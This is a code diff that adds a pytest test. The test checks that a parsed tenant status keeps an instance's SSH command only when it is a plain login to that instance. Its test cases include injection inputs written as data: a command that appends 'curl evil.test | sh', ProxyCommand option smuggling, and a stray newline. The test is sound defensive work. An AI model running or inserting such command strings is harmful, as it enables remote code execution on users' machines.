@@ -179,3 +179,25 @@ def test_a_tenant_whose_instances_stay_on_drained_nodes_is_said_to_be_protected(
     assert disruption(budget()) == "Protected"
     assert disruption() == disruption(budget("copies--webui")) == ""
     assert disruption(budget(deletionTimestamp=live.AT.format(5))) == ""
+
+
+@pytest.mark.parametrize(
+    ("command", "is_shown"),
+    [
+        ("ssh web--a@ssh.gpu.test", True),
+        ("ssh -p 2222 web--a@ssh.gpu.test", True),
+        ("ssh web--a@ssh.gpu.test; curl evil.test | sh", False),
+        ("ssh web--a@ssh.gpu.test\n", False),
+        ("ssh -oProxyCommand=evil web--a@ssh.gpu.test", False),
+        ("ssh web--b@ssh.gpu.test", False),
+        ("ssh web--a@-oProxyCommand=evil", False),
+        ("curl evil.test", False),
+    ],
+)
+def test_only_a_login_to_the_instance_is_an_ssh_command(command: str, is_shown: bool) -> None:
+    """People copy the command of a status to their shells, and anybody may have taken over a cluster."""
+    status = TenantStatus(
+        "a", "eu-1", instances=(Instance("web", "", "Running", "ProbesAnswered", "", ssh_command=command),)
+    )
+    (instance,) = parse_tenant_status(dump_status(status)).instances
+    assert instance.ssh_command == (command if is_shown else "")
